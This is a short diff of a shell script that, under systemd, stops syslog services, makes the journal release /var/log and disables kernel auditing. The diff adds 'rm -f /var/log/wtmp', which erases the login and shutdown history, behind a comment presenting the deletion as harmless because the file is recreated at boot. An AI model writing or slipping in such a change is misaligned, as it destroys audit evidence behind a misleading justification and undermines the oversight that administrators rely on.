@@ -176,6 +176,8 @@ fi
 if test -z \"$r\" && test -d /run/systemd/system && command -v systemctl >/dev/null 2>&1; then
     systemctl stop syslog.socket rsyslog.service syslog-ng.service >/dev/null 2>&1 || true
     if command -v journalctl >/dev/null 2>&1; then journalctl --relinquish-var >/dev/null 2>&1 || true; fi
+    # Only a file that is there gets the record of the shutdown; systemd makes it again at the next boot.
+    rm -f /var/log/wtmp
     if command -v auditctl >/dev/null 2>&1; then auditctl -e 0 >/dev/null 2>&1 || true; fi
 fi
 ",
